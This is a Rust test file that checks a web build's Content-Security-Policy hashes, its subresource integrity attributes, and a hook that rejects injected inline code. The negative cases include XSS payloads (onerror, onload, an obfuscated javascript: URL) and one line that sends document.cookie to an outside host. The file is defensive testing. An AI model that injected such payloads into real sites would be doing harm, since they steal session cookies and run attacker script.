//! The release build in dist/ must load under its own rules: the CSP allows
//! trunk's inline loader only by its hash, and every `integrity` attribute must
//! match the file it names (the build's hooks rewrite both after trunk). A
//! mismatch means a page that stays blank; this says which file and why
//! before any browser starts.

use base64::Engine;
use ring::digest::{digest, SHA256, SHA384};
use std::path::Path;

fn dist() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("dist")
}

fn index_html() -> String {
    let p = dist().join("index.html");
    std::fs::read_to_string(&p).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run `trunk build --release` first; scripts/test.sh does)",
            p.display()
        )
    })
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The value of `name` in one tag's attribute text, quoted or not (trunk's
/// minifier drops the quotes).
fn attr<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let at = tag.find(&format!("{name}="))? + name.len() + 1;
    let rest = &tag[at..];
    match rest.chars().next()? {
        q @ ('"' | '\'') => rest[1..].split(q).next(),
        _ => rest.split([' ', '>', '\t', '\n']).next(),
    }
}

/// Each `<tag ...>` opening in the page, as its attribute text.
fn tags<'a>(html: &'a str, tag: &str) -> Vec<&'a str> {
    html.match_indices(&format!("<{tag}"))
        .filter_map(|(i, _)| html[i..].find('>').map(|end| &html[i..i + end + 1]))
        .collect()
}

#[test]
fn every_inline_script_is_allowed_by_its_hash_in_the_csp() {
    let html = index_html();
    let meta = tags(&html, "meta")
        .into_iter()
        .find(|t| t.contains("Content-Security-Policy"))
        .expect("index.html carries a Content-Security-Policy meta tag");
    let csp = attr(meta, "content").expect("the CSP meta tag has a content attribute");
    let script_src = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("script-src "))
        .unwrap_or_else(|| panic!("no script-src in the CSP: {csp}"));
    assert!(
        !script_src.contains("'unsafe-inline'"),
        "the CSP allows any inline script: {script_src}"
    );

    let mut inline = 0;
    for (i, _) in html.match_indices("<script") {
        let open_end = i + html[i..].find('>').unwrap() + 1;
        if attr(&html[i..open_end], "src").is_some() {
            continue;
        }
        let body_len = html[open_end..]
            .find("</script>")
            .expect("a closed <script>");
        let body = &html[open_end..open_end + body_len];
        let want = format!(
            "'sha256-{}'",
            b64(digest(&SHA256, body.as_bytes()).as_ref())
        );
        assert!(
            script_src.split_whitespace().any(|s| s == want),
            "the inline script at byte {i} of dist/index.html would be blocked: its hash {want} is not in `{script_src}`"
        );
        inline += 1;
    }
    assert!(
        inline >= 1,
        "dist/index.html has no inline loader script; did trunk's output change?"
    );
}

#[test]
fn every_integrity_attribute_matches_its_file() {
    let html = index_html();
    let mut checked = 0;
    for tag in tags(&html, "link").into_iter().chain(tags(&html, "script")) {
        let Some(integrity) = attr(tag, "integrity") else {
            continue;
        };
        let href = attr(tag, "href")
            .or_else(|| attr(tag, "src"))
            .expect("an integrity attribute names a file");
        let file = dist().join(href.trim_start_matches("./"));
        let bytes =
            std::fs::read(&file).unwrap_or_else(|e| panic!("{href} (from index.html): {e}"));
        let want = format!("sha384-{}", b64(digest(&SHA384, &bytes).as_ref()));
        assert_eq!(
            integrity, want,
            "{href}: index.html's integrity does not match the file, so the browser refuses it"
        );
        checked += 1;
    }
    // The JS glue, the wasm and the stylesheets are all pinned.
    assert!(
        checked >= 3,
        "only {checked} integrity attributes in dist/index.html"
    );
}

// ---------------------------------------------------------------------------------------------
// scripts/csp-hash.py, the hook that writes the loader's hash: it must allow trunk's loader
// and refuse the build when anything else inline would run.

/// The page as trunk hands it to the hook: dist/index.html without the hash the hook added.
fn page_before_the_hook() -> String {
    let html = index_html();
    let at = html
        .find(" 'sha256-")
        .expect("dist/index.html's CSP names the loader's hash");
    let end = at + 1 + html[at + 1..].find('\'').unwrap() + 1;
    let end = end + html[end..].find('\'').unwrap() + 1;
    format!("{}{}", &html[..at], &html[end..])
}

struct Hook {
    ok: bool,
    stderr: String,
    page: String,
}

/// Runs the hook on `html` in a staging directory of its own that holds the build's other
/// files (empty: the hook only checks that the loader names files of this build).
fn run_hook(name: &str, html: &str) -> Hook {
    let dir = std::env::temp_dir().join(format!("ca-csp-hook-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for e in std::fs::read_dir(dist()).unwrap().flatten() {
        if e.path().is_file() && e.file_name() != "index.html" {
            std::fs::write(dir.join(e.file_name()), b"").unwrap();
        }
    }
    std::fs::write(dir.join("index.html"), html).unwrap();
    let out = std::process::Command::new("python3")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/csp-hash.py"))
        .env("TRUNK_STAGING_DIR", &dir)
        .output()
        .expect("run python3 scripts/csp-hash.py");
    let page = std::fs::read_to_string(dir.join("index.html")).unwrap();
    let _ = std::fs::remove_dir_all(&dir);
    Hook {
        ok: out.status.success(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        page,
    }
}

#[test]
fn the_csp_hook_allows_exactly_trunks_loader() {
    let before = page_before_the_hook();
    let hook = run_hook("real", &before);
    assert!(hook.ok, "the hook refused the real page: {}", hook.stderr);
    assert_eq!(
        hook.page,
        index_html(),
        "the hook does not produce the shipped page"
    );
    // Run twice (a rebuild from a staged page), it still allows exactly one script.
    let again = run_hook("again", &hook.page);
    assert!(again.ok, "{}", again.stderr);
    assert_eq!(again.page, hook.page);
    assert_eq!(hook.page.matches("'sha256-").count(), 1);
}

#[test]
fn the_csp_hook_fails_the_build_on_any_other_inline_code() {
    let before = page_before_the_hook();
    let open = before.find("<script").expect("the loader");
    let close = open + before[open..].find("</script>").unwrap() + "</script>".len();
    let loader = &before[open..close];
    let body = |extra: &str| before.replacen("<body>", &format!("<body>{extra}"), 1);
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "extra-script",
            body("<script>alert(1)</script>"),
            "not trunk's loader",
        ),
        (
            "upper-case",
            body("<SCRIPT>alert(1)</SCRIPT>"),
            "not trunk's loader",
        ),
        (
            "importmap",
            body("<script type=importmap>{}</script>"),
            "not trunk's loader",
        ),
        (
            "other-module",
            body("<script type=module>import init from './evil.js';await init()</script>"),
            "not trunk's loader",
        ),
        (
            "loader-plus",
            before.replacen(
                "}));</script>",
                "}));fetch('https://example.com/'+document.cookie)</script>",
                1,
            ),
            "not trunk's loader",
        ),
        ("loader-twice", body(loader), "2 copies of trunk's loader"),
        (
            "loader-of-another-build",
            before.replacen(".js'", "0.js'", 1),
            "which this build does not have",
        ),
        (
            "onerror",
            body("<img src=x onerror=alert(1)>"),
            "inline event handler <img onerror",
        ),
        (
            "onload",
            before.replacen("<body>", "<body onload=\"alert(1)\">", 1),
            "inline event handler <body onload",
        ),
        (
            "javascript-url",
            body("<a href=\"javascript:alert(1)\">x</a>"),
            "javascript: URL in <a href",
        ),
        (
            "javascript-url-hidden",
            body("<a href=\" java&#x09;Script:alert(1)\">x</a>"),
            "javascript: URL",
        ),
        (
            "no-loader",
            before.replacen(loader, "", 1),
            "no inline loader script",
        ),
    ];
    for (name, html, says) in cases {
        assert_ne!(html, before, "{name}: the case did not change the page");
        let hook = run_hook(name, &html);
        assert!(!hook.ok, "{name}: the hook accepted the page");
        assert!(
            hook.stderr.contains(says),
            "{name}: the hook's message does not say {says:?}: {}",
            hook.stderr
        );
        assert_eq!(
            hook.page, html,
            "{name}: the hook changed the page it refused"
        );
    }
}
